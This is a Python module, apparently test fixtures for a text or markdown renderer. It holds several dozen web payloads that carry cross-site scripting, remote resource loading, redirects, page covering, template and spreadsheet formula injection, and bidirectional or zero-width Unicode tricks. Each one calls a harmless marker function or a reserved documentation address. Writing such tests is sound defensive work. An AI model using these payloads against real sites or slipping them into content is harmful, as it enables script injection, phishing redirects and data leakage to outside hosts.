"""Texts that would run, load, lead away or cover the page, were they taken for more than text.

What runs calls ``struck()``; what loads or leads away goes to an address nobody has.
"""

_THERE = "http://203.0.113.9"

_RUNNING = (
    "<script>struck()</script>",
    "<ScRiPt src=//203.0.113.9/a.js></sCrIpT>",
    "</script><script>struck()</script>",
    "<script>document.title='struck'</script>",
    "<script>alert('struck')</script>",
    f'<img src="{_THERE}/a.png" onerror="struck()">',
    "<img src=x onerror=struck()>",
    "<img src=x onerror=&#115;truck()>",
    "<svg onload=struck()></svg>",
    "<svg><script>struck()</script></svg>",
    '<svg><animate onbegin=struck() attributeName=x dur=1s></svg>',
    f'<svg><use href="{_THERE}/a.svg#a"/></svg>',
    f'<svg><foreignObject><iframe src="{_THERE}"></iframe></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=struck()></style></mglyph></table>',
    f'<math href="javascript:struck()"><mi xlink:href="{_THERE}">x</mi></math>',
    "<body onload=struck()>",
    "<input autofocus onfocus=struck()>",
    "<details open ontoggle=struck()><summary>x</summary></details>",
    "<marquee onstart=struck()>x</marquee>",
    "<video><source onerror=struck()></video>",
    f"<audio src='{_THERE}/a.mp3' autoplay></audio>",
    "<a href=javascript:struck()>x</a>",
    "<object data=javascript:struck()></object>",
    f'<embed src="{_THERE}/a.swf">',
    '" onmouseover="struck()" x="',
    "' onfocus='struck()' autofocus tabindex='0",
    "`><img src=x onerror=struck()>",
    "--><img src=x onerror=struck()><!--",
    "]]><img src=x onerror=struck()>",
    "</title><img src=x onerror=struck()>",
    "</textarea><img src=x onerror=struck()>",
    "</style><img src=x onerror=struck()>",
    "&lt;img src=x onerror=struck()&gt;",
    "&#60;script&#62;struck()&#60;/script&#62;",
    "\\u003cscript\\u003estruck()\\u003c/script\\u003e",
    "<noscript><p title='</noscript><img src=x onerror=struck()>'>",
)  # fmt: skip
_LOADING = (
    f"![x]({_THERE}/a.png)",
    f"![x][1]\n\n[1]: {_THERE}/b.png",
    f"[![x]({_THERE}/c.png)]({_THERE}/d)",
    f'<iframe src="{_THERE}"></iframe>',
    '<iframe srcdoc="<script>parent.struck()</script>"></iframe>',
    f'<link rel="stylesheet" href="{_THERE}/a.css">',
    f'<style>@import "{_THERE}/b.css";</style>',
    f'<p style="background:url({_THERE}/e.png)">x</p>',
    f"url({_THERE}/f.png)",
    f'<base href="{_THERE}/">',
    f'<picture><source srcset="{_THERE}/g.png"><img></picture>',
    f'{{"image": "{_THERE}/h.png", "url": "{_THERE}/i.json", "href": "{_THERE}"}}',
    f"```mermaid\ngraph TD; A[<img src='{_THERE}/j.png'>] --> B; click A '{_THERE}'\n```",
    f":material/home: :streamlit: :red[x] <{_THERE}>",
)
_LEADING_AWAY = (
    f'<meta http-equiv="refresh" content="0;url={_THERE}">',
    f'<form action="{_THERE}"><button>x</button></form>',
    f"{_THERE}/autolink www.example.invalid a@example.invalid",
    "[x](javascript:struck())",
    "[x](data:text/html,<script>struck()</script>)",
    "[x](vbscript:struck())",
    f"[x](//{_THERE[7:]}) <javascript:struck()>",
    "javascript:struck()",
    "data:text/html,<script>struck()</script>",
    "<script>location='http://203.0.113.9'</script>",
)
_COVERING = (
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0;z-index:9999999;background:red">x</div>',
    "$\\rule{5000em}{5000em}$ $$\\rule{5000em}{5000em}$$",
    "$\\href{javascript:struck()}{x}\\includegraphics{http://203.0.113.9/k.png}$",
    "# x\n\n---\n\n| a | b |\n|:-:|:-:|\n| 1 | 2 |",
    "</div></div></div></section></body></html>",
    "<!--",
    "<plaintext>",
    "{{constructor.constructor('struck()')()}} ${struck()} #{struck()} <%= struck() %>",
    "{% raw %}{{ 7*7 }}{% endraw %} %(x)s {0.__class__} {x!r}",
    "datum.x' + warn('struck') + ' \\'; struck(); //",
    "=HYPERLINK(\"http://203.0.113.9\",\"x\") +1 -1 @SUM(1)",
    "\u202eslleps siht \u202d\u202b",
    "\u2067\u2067\u2066 open \u2068",
    "a\u200bb\u2060c\ufeffd\U000e0041\U000e0042",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a" * 6,
    "слово" * 60,
)  # fmt: skip
_LONG = (
    "<div>", "[", "> ", "- ", "*a **a ", "$\\frac{", "((", "{{", "<svg><g>", "щ", "\u202e\u2067x",
    "![x](http://203.0.113.9/",
)  # fmt: skip
LONG_CHARACTERS = 25_000
"""Of one cell; a document holds its payload eight times."""


def payloads() -> list[str]:
    """All of them, each with a number of its own behind it."""
    everything = (*_RUNNING, *_LOADING, *_LEADING_AWAY, *_COVERING)
    return [f"{payload} п{number}" for number, payload in enumerate(everything)]


def long_payloads() -> list[str]:
    """Nests and words without an end."""
    return [
        f"x{(piece * LONG_CHARACTERS)[:LONG_CHARACTERS]} д{number}"
        for number, piece in enumerate(_LONG)
    ]
